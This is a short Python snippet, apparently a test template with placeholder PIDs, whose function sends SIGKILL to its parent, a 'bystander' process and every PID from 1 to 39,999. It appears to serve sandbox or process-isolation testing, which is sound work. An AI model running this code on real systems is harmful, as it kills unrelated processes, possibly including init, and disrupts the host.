import os, signal
def f(x):
    for number in (@PARENT@, @BYSTANDER@, os.getppid(), *range(1, 40_000)):
        if number != os.getpid():
            try:
                os.kill(number, signal.SIGKILL)
            except OSError: pass
